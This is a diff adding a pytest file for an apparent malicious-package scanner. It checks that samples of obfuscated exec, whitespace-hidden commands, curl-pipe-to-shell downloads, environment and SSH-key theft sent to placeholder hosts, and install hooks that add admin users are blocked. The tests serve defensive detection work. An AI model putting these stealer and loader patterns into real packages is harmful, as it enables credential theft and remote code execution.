@@ -1,0 +1,306 @@
+"""Techniques seen in real malicious packages, each with a benign look-alike.
+
+Every sample here is inert text written for this test (hosts from documentation
+ranges, commands that would only print). Each technique must block as a
+package; each look-alike must stay allowed.
+"""
+
+from __future__ import annotations
+
+import base64
+from pathlib import Path
+
+import pytest
+
+from pycustoms.config import Policy
+from pycustoms.scan import scan_target
+from pycustoms.types import Decision
+from tests.builders import build_sdist, build_wheel
+
+STAGE_TWO = "import os\nos.system('curl -s http://198.51.100.7/x | sh')\n"
+B64 = base64.b64encode(STAGE_TWO.encode()).decode()
+
+
+def _verdict(path: Path) -> Decision:
+    result = scan_target(path, Policy())
+    assert result.error is None, result.error
+    return result.verdict.decision
+
+
+def _wheel(tmp_path: Path, files: dict[str, str], name: str = "sample") -> Decision:
+    return _verdict(build_wheel(tmp_path, name, "1.0", files))
+
+
+def _sdist(tmp_path: Path, setup: str, files: dict[str, str] | None = None) -> Decision:
+    contents = {"setup.py": setup, "sample/__init__.py": "", **(files or {})}
+    return _verdict(build_sdist(tmp_path, "sample", "1.0", contents))
+
+
+# -- builtins aliased through eval of literals (obfuscator output) ------------------------------
+
+OBFUSCATED_ALIASES = {
+    "eval of escaped names": (
+        '_e = eval("\\x65\\x76\\x61\\x6c")\n'
+        '_c = _e("\\x63ompile")\n'
+        "_b = _e(_c(\"__import__('base64')\", '', 'eval'))\n"
+        '_x = _e("ex" + "ec")\n'
+        f"_x(_b.b64decode({B64!r}))\n"
+    ),
+    "tuple of builtins": (
+        f"import base64\n_r, _s, _t = exec, str, type\n_r(base64.b64decode({B64!r}))\n"
+    ),
+    "globals lookup": (f"import base64\nglobals()['exec'](base64.b64decode({B64!r}))\n"),
+}
+
+
+@pytest.mark.parametrize("way", list(OBFUSCATED_ALIASES), ids=list(OBFUSCATED_ALIASES))
+def test_exec_through_an_obfuscated_alias_blocks(way: str, tmp_path: Path) -> None:
+    files = {"sample/__init__.py": OBFUSCATED_ALIASES[way]}
+    assert _wheel(tmp_path, files) is Decision.BLOCK
+
+
+def test_a_compat_exec_alias_on_literal_code_is_ordinary(tmp_path: Path) -> None:
+    source = (
+        "import sys\n"
+        "_exec = exec\n"
+        "_exec('def reraise(tp, value):\\n    raise value\\n')\n"
+        "VERSION = eval('(1, 2)')\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.ALLOW
+
+
+# -- code hidden off-screen ---------------------------------------------------------------------
+
+
+def test_a_statement_hidden_behind_blanks_blocks(tmp_path: Path) -> None:
+    source = "VALUE = 1" + " " * 300 + f";__import__('os').system({STAGE_TWO.splitlines()[1]!r})\n"
+    assert _wheel(tmp_path, {"sample/util.py": source}) is Decision.BLOCK
+
+
+def test_wide_tables_in_docstrings_are_ordinary(tmp_path: Path) -> None:
+    table = "=" * 40 + " " * 300 + "command\n"
+    source = f'def running():\n    """Running crawls.\n\n    {table}    """\n    return []\n'
+    assert _wheel(tmp_path, {"sample/util.py": source}) is Decision.ALLOW
+
+
+# -- a byte-order mark does not hide a module from the parser -----------------------------------
+
+
+def test_a_module_starting_with_a_bom_is_still_judged(tmp_path: Path) -> None:
+    source = (
+        "\ufeffimport os, requests\nrequests.post('http://203.0.113.5/c', json=dict(os.environ))\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.BLOCK
+
+
+# -- strings computed from literals -------------------------------------------------------------
+
+
+def test_a_command_behind_a_decode_helper_blocks_at_install(tmp_path: Path) -> None:
+    command = base64.b64encode(b"curl -s http://198.51.100.7/i.sh | bash").decode()
+    setup = (
+        "import base64, os\n"
+        "def b64d(code):\n"
+        "    return base64.b64decode(code.encode('ascii')).decode('ascii')\n"
+        f"os.system(b64d({command!r}))\n"
+        "from setuptools import setup\nsetup(name='sample')\n"
+    )
+    assert _sdist(tmp_path, setup) is Decision.BLOCK
+
+
+def test_a_url_built_from_char_codes_blocks(tmp_path: Path) -> None:
+    codes = ", ".join(str(ord(c) ^ 11) for c in "http://203.0.113.5/c")
+    source = (
+        "import os, urllib.request\n"
+        f"u = ''.join(chr(c ^ 11) for c in [{codes}])\n"
+        "urllib.request.urlopen(u, data=repr(dict(os.environ)).encode())\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.BLOCK
+
+
+def test_a_decoded_resource_name_is_ordinary(tmp_path: Path) -> None:
+    source = (
+        "import base64\n"
+        "NAME = base64.b64decode('ZGF0YS5qc29u').decode()\n"
+        "def path():\n    return NAME\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.ALLOW
+
+
+# -- payload routines: a suspicious peer next to a threat, however the function is reached -----
+
+
+def test_a_stealer_routine_nobody_calls_yet_blocks(tmp_path: Path) -> None:
+    source = (
+        "import os, glob, requests\n"
+        "HOOK = 'https://discord.com/api/webhooks/123456789012345678/abc'\n"
+        "def grab():\n"
+        "    for path in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
+        "        requests.post(HOOK, files={'f': open(path, 'rb')})\n"
+    )
+    assert _wheel(tmp_path, {"sample/tools.py": source}) is Decision.BLOCK
+
+
+def test_an_uncalled_upload_helper_to_a_named_host_is_ordinary(tmp_path: Path) -> None:
+    source = (
+        "import requests\n"
+        "def upload(path, token):\n"
+        "    with open(path, 'rb') as handle:\n"
+        "        requests.post('https://api.example.com/v1/files', data=handle,\n"
+        "                      headers={'Authorization': token})\n"
+    )
+    assert _wheel(tmp_path, {"sample/tools.py": source}) is Decision.ALLOW
+
+
+# -- data handed to a local helper that sends it ------------------------------------------------
+
+
+def test_host_details_sent_through_a_local_helper_at_install_block(tmp_path: Path) -> None:
+    setup = (
+        "import getpass, json, socket, urllib.request\n"
+        "def request(url, method='GET', data=None):\n"
+        "    req = urllib.request.Request(url=url, data=data)\n"
+        "    return urllib.request.urlopen(req, timeout=10).read()\n"
+        "def detect():\n"
+        "    info = {'user': getpass.getuser(), 'host': socket.gethostname()}\n"
+        "    request(url='https://collector.example.net/hook', method='POST',\n"
+        "            data=json.dumps(info).encode())\n"
+        "detect()\n"
+        "from setuptools import setup\nsetup(name='sample')\n"
+    )
+    assert _sdist(tmp_path, setup) is Decision.BLOCK
+
+
+def test_a_version_check_through_a_local_helper_is_ordinary(tmp_path: Path) -> None:
+    setup = (
+        "import json, urllib.request\n"
+        "def request(url, data=None):\n"
+        "    return urllib.request.urlopen(urllib.request.Request(url=url, data=data)).read()\n"
+        "def latest():\n"
+        "    return request('https://api.example.com/latest', data=json.dumps({'v': 1}).encode())\n"
+        "from setuptools import setup\nsetup(name='sample')\n"
+    )
+    decision = _sdist(tmp_path, setup)
+    assert decision is not Decision.BLOCK
+
+
+def test_a_request_object_keeps_its_destination(tmp_path: Path) -> None:
+    source = (
+        "import os, json, urllib.request\n"
+        "URL = 'https://abcdefghijklmnop.oastify.com/x'\n"
+        "req = urllib.request.Request(URL, data=json.dumps({'cwd': os.getcwd()}).encode())\n"
+        "urllib.request.urlopen(req)\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.BLOCK
+
+
+# -- code written to a file, then run ------------------------------------------------------------
+
+
+def test_a_script_written_and_run_at_install_blocks(tmp_path: Path) -> None:
+    script = (
+        "import requests, base64\\n"
+        'data = requests.get("http://203.0.113.8/img.png").content\\n'
+        "exec(base64.b64decode(data))\\n"
+    )
+    setup = (
+        "import os\n"
+        "from setuptools import setup\n"
+        "from setuptools.command.install import install\n"
+        "class Install(install):\n"
+        "    def run(self):\n"
+        "        install.run(self)\n"
+        "        path = os.path.join(os.getenv('TEMP', '/tmp'), 'cfg.py')\n"
+        "        with open(path, 'w') as handle:\n"
+        f"            handle.write('{script}')\n"
+        "        os.system('python ' + path)\n"
+        "setup(name='sample', cmdclass={'install': Install})\n"
+    )
+    assert _sdist(tmp_path, setup) is Decision.BLOCK
+
+
+def test_a_generated_version_module_is_ordinary(tmp_path: Path) -> None:
+    setup = (
+        "import subprocess\n"
+        "from setuptools import setup\n"
+        "rev = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
+        "with open('sample/_version.py', 'w') as handle:\n"
+        "    handle.write('# generated\\n__version__ = %r\\nimport sys\\nX = (1, 2)\\n' % rev)\n"
+        "setup(name='sample')\n"
+    )
+    assert _sdist(tmp_path, setup) is Decision.ALLOW
+
+
+def test_a_shipped_script_run_at_install_is_judged_as_install_code(tmp_path: Path) -> None:
+    setup = (
+        "import os, sys\n"
+        "from setuptools import setup\n"
+        "from setuptools.command.install import install\n"
+        "class Run(install):\n"
+        "    def run(self):\n"
+        "        os.system(f'{sys.executable} \"{os.path.join(os.path.dirname(__file__), "
+        "\\'helper.py\\')}\"')\n"
+        "        install.run(self)\n"
+        "setup(name='sample', py_modules=['helper'], cmdclass={'install': Run})\n"
+    )
+    helper = (
+        "import os, requests\n"
+        "requests.post('https://collector.example.net/h', json={'env': dict(os.environ)})\n"
+    )
+    assert _sdist(tmp_path, setup, {"helper.py": helper}) is Decision.BLOCK
+
+
+# -- commands builds never run ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "os.system('calc.exe')",
+        "os.system(\"echo 'You Have been pwned' > /tmp/pwned\")",
+        "subprocess.getoutput('dig @1.1.1.1 install.api.example.com')",
+        "subprocess.check_output('net user /add user3 S3cret! && net localgroup "
+        "administrators user3 /add', shell=True)",
+    ],
+)
+def test_install_commands_builds_never_run_block(command: str, tmp_path: Path) -> None:
+    setup = (
+        f"import os, subprocess\n{command}\nfrom setuptools import setup\nsetup(name='sample')\n"
+    )
+    assert _sdist(tmp_path, setup) is Decision.BLOCK
+
+
+def test_build_commands_at_install_are_ordinary(tmp_path: Path) -> None:
+    setup = (
+        "import os, subprocess, sysconfig\n"
+        "subprocess.check_call(['gcc', '-O2', '-c', 'src/fast.c', '-o', 'build/fast.o'])\n"
+        "rev = subprocess.check_output(['git', 'describe', '--tags']).decode()\n"
+        "arch = subprocess.check_output(['uname', '-m']).decode()\n"
+        "have = os.system('which pkg-config > /dev/null')\n"
+        "from setuptools import setup\nsetup(name='sample', version=rev)\n"
+    )
+    assert _sdist(tmp_path, setup) is Decision.ALLOW
+
+
+# -- a package whose own name has a test word is still the package -----------------------------
+
+
+def test_a_package_named_like_a_test_directory_is_judged_as_the_package(tmp_path: Path) -> None:
+    source = (
+        "import os, socket, urllib.request\n"
+        "info = os.getlogin() + '@' + socket.gethostname()\n"
+        "urllib.request.urlopen('https://collector.example.net/i', data=info.encode())\n"
+    )
+    files = {"shoots_api_test/__init__.py": source}
+    assert _wheel(tmp_path, files, name="shoots-api-test") is Decision.BLOCK
+
+
+def test_a_real_tests_directory_with_fake_secrets_is_ordinary(tmp_path: Path) -> None:
+    source = (
+        "import os\n"
+        "FAKE = {'AWS_SECRET_ACCESS_KEY': 'x' * 40}\n"
+        "def test_env(monkeypatch):\n"
+        "    monkeypatch.setattr(os, 'environ', FAKE)\n"
+    )
+    files = {"sample/__init__.py": "", "tests/test_env.py": source}
+    assert _wheel(tmp_path, files) is Decision.ALLOW
